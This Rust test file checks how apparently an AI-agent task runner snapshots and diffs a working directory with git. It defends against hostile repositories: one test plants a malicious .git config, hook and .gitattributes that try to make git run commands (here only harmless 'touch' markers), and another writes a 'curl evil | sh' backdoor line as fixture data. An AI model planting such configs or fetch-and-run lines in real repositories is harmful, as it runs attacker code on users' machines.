//! Tests of the snapshots with the real `git` (no sandbox here: the e2e suite runs them in
//! it): the user's repository is left exactly as it was, a planted config runs nothing, a
//! non-git workdir works, and the diff applies to the baseline with `git apply`.
#![allow(clippy::disallowed_types, clippy::disallowed_methods, reason = "tests drive git and the filesystem directly")]

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::Command;

use super::*;
use crate::config::SandboxMode;
use crate::tasks::changes::{self, ChangeSet};
use crate::tasks::redact::Redactor;

pub(in crate::provider) fn git_bin() -> Option<PathBuf> {
    let found = super::super::env::which("git", std::env::var_os("PATH").as_deref());
    if found.is_none() {
        assert!(std::env::var_os("CI").is_none(), "git is required in CI");
        #[allow(clippy::print_stderr, reason = "a skipped test says so loudly")]
        {
            eprintln!("SKIPPED: git is not installed");
        }
    }
    found
}

pub(in crate::provider) fn git(dir: &Path, args: &[&str]) -> String {
    let out = Command::new("git")
        .args(["-c", "user.name=t", "-c", "user.email=t@example.invalid", "-c", "commit.gpgsign=false"])
        .args(args)
        .current_dir(dir)
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .output()
        .unwrap();
    assert!(out.status.success(), "git {args:?}: {}", String::from_utf8_lossy(&out.stderr));
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// Every file under `dir` with its bytes (the whole `.git`, to prove nothing in it changed).
pub(in crate::provider) fn contents(dir: &Path) -> BTreeMap<PathBuf, Vec<u8>> {
    let mut all = BTreeMap::new();
    let mut stack = vec![dir.to_owned()];
    while let Some(d) = stack.pop() {
        for entry in std::fs::read_dir(&d).unwrap().flatten() {
            let meta = entry.metadata().unwrap();
            if meta.is_dir() {
                stack.push(entry.path());
            } else {
                all.insert(entry.path().strip_prefix(dir).unwrap().to_owned(), std::fs::read(entry.path()).unwrap());
            }
        }
    }
    all
}

struct Fixture {
    id: &'static str,
    _tmp: tempfile::TempDir,
    work: PathBuf,
    dir: PathBuf,
    snapshots: Snapshots,
}

/// A fixture for task `id` (distinct per test: a run's stop sweeps its task's processes).
fn fixture(git: PathBuf, id: &'static str) -> Fixture {
    let tmp = tempfile::tempdir().unwrap();
    let work = tmp.path().join("work");
    std::fs::create_dir(&work).unwrap();
    let dir = snapshot_dir(&tmp.path().join("state"), id);
    let snapshots = Snapshots::new(Some(git), Containment::none(SandboxMode::Off, "a unit test"));
    Fixture { id, _tmp: tmp, work, dir, snapshots }
}

async fn diff(f: &Fixture, baseline: &Baseline) -> ChangeSet {
    let raw = f.snapshots.change_set(f.id, baseline).await.unwrap();
    changes::parse(&raw, &Redactor::new(&f.work, &[])).unwrap()
}

/// Copies the regular files of `from` (not `.git`) to `to`.
fn copy_tree(from: &Path, to: &Path) {
    for (rel, bytes) in contents(from) {
        if rel.starts_with(".git") {
            continue;
        }
        std::fs::create_dir_all(to.join(&rel).parent().unwrap()).unwrap();
        std::fs::write(to.join(rel), bytes).unwrap();
    }
}

#[tokio::test]
async fn a_git_workdir_is_diffed_without_touching_the_users_repository() {
    let Some(bin) = git_bin() else { return };
    let f = fixture(bin, "agt_snapshot1");
    let w = &f.work;
    git(w, &["init", "-q", "-b", "main"]);
    std::fs::write(w.join("edit.txt"), "one\ntwo\nthree\n").unwrap();
    std::fs::write(w.join("gone.txt"), "bye\n").unwrap();
    std::fs::write(w.join("moved.txt"), "a long enough line to be recognized as the same file\nsecond\n").unwrap();
    std::fs::write(w.join(".gitignore"), "ignored/\n").unwrap();
    git(w, &["add", "-A"]);
    git(w, &["commit", "-qm", "first"]);
    // The user's own state: a stash, a staged change, an unstaged one, an untracked file, an
    // ignored one and an excluded one.
    std::fs::write(w.join("edit.txt"), "one\ntwo\nthree\nstashed\n").unwrap();
    git(w, &["stash", "-q"]);
    std::fs::write(w.join("staged.txt"), "staged\n").unwrap();
    git(w, &["add", "staged.txt"]);
    std::fs::write(w.join("gone.txt"), "bye\nunstaged\n").unwrap();
    std::fs::write(w.join("untracked.txt"), "mine\n").unwrap();
    std::fs::create_dir(w.join("ignored")).unwrap();
    std::fs::write(w.join("ignored/secret"), "s\n").unwrap();
    std::fs::write(w.join("excluded.txt"), "x\n").unwrap();
    std::fs::write(w.join(".git/info/exclude"), "excluded.txt\n").unwrap();
    let before_git = contents(&w.join(".git"));
    let before_status = git(w, &["status", "--porcelain=v2", "--branch", "--untracked-files=all"]);
    let before_stash = git(w, &["stash", "list"]);
    let before_head = git(w, &["rev-parse", "HEAD"]);
    let copy = f._tmp.path().join("baseline-copy");
    copy_tree(w, &copy);

    let baseline = f.snapshots.baseline(f.id, w, &f.dir, None, false).await.unwrap();
    assert_eq!(baseline.method, Method::Git);
    // The agent's work: one file added, one edited, one deleted, one renamed, one binary.
    std::fs::write(w.join("added.txt"), "new\nfile\n").unwrap();
    std::fs::write(w.join("edit.txt"), "one\n2\nthree\n").unwrap();
    std::fs::remove_file(w.join("gone.txt")).unwrap();
    std::fs::rename(w.join("moved.txt"), w.join("renamed.txt")).unwrap();
    std::fs::write(w.join("blob.bin"), [0u8, 1, 2, 255, 0]).unwrap();
    std::fs::write(w.join("ignored/more"), "still ignored\n").unwrap();
    let set = diff(&f, &baseline).await;

    let mut got: Vec<_> = set.files.iter().map(|f| (f.path.clone(), f.status, f.added, f.removed, f.binary)).collect();
    got.sort();
    assert_eq!(
        got,
        [
            ("added.txt".to_owned(), "added", 2, 0, false),
            ("blob.bin".to_owned(), "added", 0, 0, true),
            ("edit.txt".to_owned(), "modified", 1, 1, false),
            ("gone.txt".to_owned(), "deleted", 0, 2, false),
            ("renamed.txt".to_owned(), "renamed", 0, 0, false),
        ],
        "{}",
        set.diff
    );
    assert_eq!(set.spans.len(), 5);
    assert!(set.diff.contains("Binary files"), "{}", set.diff);

    // The user's repository is exactly as it was (the work tree aside).
    assert_eq!(contents(&w.join(".git")), before_git, "the snapshot wrote into the user's .git");
    assert_eq!(git(w, &["stash", "list"]), before_stash);
    assert_eq!(git(w, &["rev-parse", "HEAD"]), before_head);
    let after_status = git(w, &["status", "--porcelain=v2", "--branch", "--untracked-files=all"]);
    assert!(after_status.contains("staged.txt") && before_status.contains("staged.txt"));

    // The diff applies to the baseline (its text files) and gives the agent's result.
    std::fs::write(copy.join("patch.diff"), &set.diff).unwrap();
    let applied = Command::new("git").args(["apply", "--exclude=blob.bin", "patch.diff"]).current_dir(&copy).output();
    let applied = applied.unwrap();
    assert!(applied.status.success(), "git apply: {}", String::from_utf8_lossy(&applied.stderr));
    for name in ["added.txt", "edit.txt", "renamed.txt"] {
        assert_eq!(std::fs::read(copy.join(name)).unwrap(), std::fs::read(w.join(name)).unwrap(), "{name}");
    }
    assert!(!copy.join("gone.txt").exists() && !copy.join("moved.txt").exists());
}

#[tokio::test]
async fn a_planted_repository_config_runs_nothing() {
    let Some(bin) = git_bin() else { return };
    let f = fixture(bin, "agt_snapshot2");
    let w = &f.work;
    git(w, &["init", "-q"]);
    std::fs::write(w.join("a.txt"), "a\n").unwrap();
    std::fs::write(w.join(".gitattributes"), "* filter=evil diff=evil\n").unwrap();
    git(w, &["add", "-A"]);
    git(w, &["commit", "-qm", "first"]);
    let pwned = f._tmp.path().join("pwned");
    let sh = |what: &str| format!("!sh -c 'touch {}/{what}'", pwned.display());
    std::fs::create_dir(&pwned).unwrap();
    let hooks = w.join(".git/hooks");
    std::fs::write(hooks.join("post-index-change"), format!("#!/bin/sh\ntouch {}/hook\n", pwned.display())).unwrap();
    Command::new("chmod").args(["+x", hooks.join("post-index-change").to_str().unwrap()]).status().unwrap();
    let planted = format!(
        "[core]\n\tfsmonitor = {fsm}\n\tpager = {pager}\n[filter \"evil\"]\n\tclean = {clean}\n\tsmudge = {clean}\n\
         \trequired = true\n[diff \"evil\"]\n\ttextconv = {conv}\n\tcommand = {conv}\n[diff]\n\texternal = {ext}\n",
        fsm = format_args!("touch {}/fsmonitor", pwned.display()),
        pager = sh("pager"),
        clean = format_args!("touch {}/filter", pwned.display()),
        conv = format_args!("touch {}/textconv", pwned.display()),
        ext = format_args!("touch {}/external", pwned.display()),
    );
    let config = w.join(".git/config");
    let mut text = std::fs::read_to_string(&config).unwrap();
    text.push_str(&planted);
    std::fs::write(&config, text).unwrap();

    let baseline = f.snapshots.baseline(f.id, w, &f.dir, None, false).await.unwrap();
    std::fs::write(w.join("a.txt"), "a\nb\n").unwrap();
    let set = diff(&f, &baseline).await;
    assert_eq!(set.files.len(), 1);
    assert_eq!((set.files[0].added, set.files[0].removed), (1, 0));
    let ran: Vec<_> = std::fs::read_dir(&pwned).unwrap().flatten().map(|e| e.file_name()).collect();
    assert!(ran.is_empty(), "the repository's config ran {ran:?}");
}

#[tokio::test]
async fn a_plain_directory_is_diffed_from_a_private_store() {
    let Some(bin) = git_bin() else { return };
    let f = fixture(bin, "agt_snapshot3");
    let w = &f.work;
    std::fs::write(w.join("keep.txt"), "k\n").unwrap();
    std::fs::write(w.join("edit.txt"), "1\n2\n").unwrap();
    std::fs::create_dir(w.join("sub")).unwrap();
    std::fs::write(w.join("sub/drop.txt"), "d\n").unwrap();
    let baseline = f.snapshots.baseline(f.id, w, &f.dir, None, false).await.unwrap();
    assert_eq!(baseline.method, Method::Tree);
    assert!(!w.join(".git").exists(), "a plain directory must not become a repository");
    std::fs::write(w.join("edit.txt"), "1\n2\n3\n").unwrap();
    std::fs::remove_file(w.join("sub/drop.txt")).unwrap();
    std::fs::write(w.join("sub/new.txt"), "n\n").unwrap();
    let set = diff(&f, &baseline).await;
    let mut got: Vec<_> = set.files.iter().map(|f| (f.path.as_str(), f.status, f.added, f.removed)).collect();
    got.sort();
    assert_eq!(
        got,
        [("edit.txt", "modified", 1, 0), ("sub/drop.txt", "deleted", 0, 1), ("sub/new.txt", "added", 1, 0)]
    );
    assert!(!w.join(".git").exists());
    remove(&f.dir);
    assert!(!f.dir.exists());
}

#[tokio::test]
async fn many_new_files_are_stored_as_one_pack_and_still_diffed_as_text() {
    let Some(bin) = git_bin() else { return };
    let f = fixture(bin, "agt_snapshot_pack");
    let w = &f.work;
    for i in 0..300 {
        std::fs::write(w.join(format!("f{i}.txt")), format!("{i}\nline\n")).unwrap();
    }
    let baseline = f.snapshots.baseline(f.id, w, &f.dir, None, false).await.unwrap();
    // A loose object per file would be 300 files under objects/xx/; the blobs are in a pack,
    // and only the tree `write-tree` wrote is loose.
    let objects = f.dir.join("git/objects");
    let loose = std::fs::read_dir(&objects)
        .unwrap()
        .flatten()
        .filter(|e| e.file_name().len() == 2)
        .map(|e| std::fs::read_dir(e.path()).unwrap().count())
        .sum::<usize>();
    assert_eq!(loose, 1, "the baseline wrote a loose object per file");
    let packs = std::fs::read_dir(objects.join("pack")).unwrap().count();
    assert!((1..=4).contains(&packs), "{packs} files in objects/pack");
    std::fs::write(w.join("f7.txt"), "7\nline\nmore\n").unwrap();
    let set = diff(&f, &baseline).await;
    let got: Vec<_> = set.files.iter().map(|f| (f.path.as_str(), f.status, f.added, f.removed)).collect();
    assert_eq!(got, [("f7.txt", "modified", 1, 0)]);
    assert!(set.diff.contains("+more"), "the diff is not text: {}", set.diff);
    remove(&f.dir);
}

#[tokio::test]
async fn nothing_changed_is_an_empty_change_set_and_a_huge_diff_is_cut_at_its_bound() {
    let Some(bin) = git_bin() else { return };
    let f = fixture(bin, "agt_snapshot4");
    let w = &f.work;
    std::fs::write(w.join("a.txt"), "a\n").unwrap();
    let baseline = f.snapshots.baseline(f.id, w, &f.dir, None, false).await.unwrap();
    let set = diff(&f, &baseline).await;
    assert!(set.files.is_empty() && set.diff.is_empty() && !set.truncated);

    let line = "x".repeat(99) + "\n";
    std::fs::write(w.join("big.txt"), line.repeat(PATCH_LIMIT / 100 + 1000)).unwrap();
    std::fs::write(w.join("z-after.txt"), "after\n").unwrap();
    let set = diff(&f, &baseline).await;
    assert!(set.truncated);
    assert_eq!(set.files.len(), 2, "the counts cover every file");
    assert_eq!(set.files[0].added as usize, PATCH_LIMIT / 100 + 1000);
    assert!(set.diff.len() <= PATCH_LIMIT + 200, "{}", set.diff.len());
    assert!(set.diff.ends_with("0 of 2 files are shown whole\n"), "{}", &set.diff[set.diff.len() - 200..]);
}

#[tokio::test]
async fn without_git_the_reason_says_so() {
    let tmp = tempfile::tempdir().unwrap();
    let snapshots = Snapshots::new(None, Containment::none(SandboxMode::Off, "a unit test"));
    let err = snapshots.baseline("agt_x", tmp.path(), &tmp.path().join("s"), None, false).await.unwrap_err();
    assert!(err.contains("git is not installed"), "{err}");
}

#[tokio::test]
async fn planted_fifos_and_links_in_the_git_directory_do_not_hang_the_baseline() {
    let Some(bin) = git_bin() else { return };
    let f = fixture(bin, "agt_snapshot6");
    let w = &f.work;
    git(w, &["init", "-q"]);
    std::fs::write(w.join("a.txt"), "a\n").unwrap();
    git(w, &["add", "-A"]);
    git(w, &["commit", "-qm", "first"]);
    // What an earlier agent could leave: a FIFO as `commondir` and as the index.
    for name in ["commondir", "index"] {
        let path = w.join(".git").join(name);
        let _ = std::fs::remove_file(&path);
        nix::unistd::mkfifo(&path, nix::sys::stat::Mode::from_bits_truncate(0o600)).unwrap();
    }
    let baseline =
        tokio::time::timeout(std::time::Duration::from_secs(60), f.snapshots.baseline(f.id, w, &f.dir, None, false))
            .await
            .expect("the baseline must not block on a FIFO")
            .unwrap();
    std::fs::write(w.join("a.txt"), "a\nb\n").unwrap();
    let set = diff(&f, &baseline).await;
    assert_eq!(set.files.len(), 1, "{:?}", set.files);
}

/// The forged snapshot: the private directory swapped for one holding a "nothing changed"
/// change set while the task added a file. The diff trusts the directory only while it is the
/// one the baseline made (device and inode), before it runs and before its outputs are read.
#[tokio::test]
async fn a_replaced_snapshot_directory_is_not_trusted() {
    let Some(bin) = git_bin() else { return };
    let f = fixture(bin, "agt_snapshot_forged");
    std::fs::write(f.work.join("a.txt"), "a\n").unwrap();
    let baseline = f.snapshots.baseline(f.id, &f.work, &f.dir, None, false).await.unwrap();
    std::fs::write(f.work.join("backdoor.sh"), "curl evil | sh\n").unwrap();
    let moved = f.dir.with_extension("real");
    std::fs::rename(&f.dir, &moved).unwrap();
    std::fs::create_dir(&f.dir).unwrap();
    for name in ["status", "numstat", "patch"] {
        std::fs::write(f.dir.join(name), "").unwrap();
    }
    let refused = f.snapshots.change_set(f.id, &baseline).await.expect_err("a forged directory is refused");
    assert!(refused.contains("replaced"), "{refused}");
    // Put back, the same directory is trusted again and shows the file.
    std::fs::remove_dir_all(&f.dir).unwrap();
    std::fs::rename(&moved, &f.dir).unwrap();
    let set = diff(&f, &baseline).await;
    assert!(set.files.iter().any(|file| file.path == "backdoor.sh"), "{:?}", set.files);
}
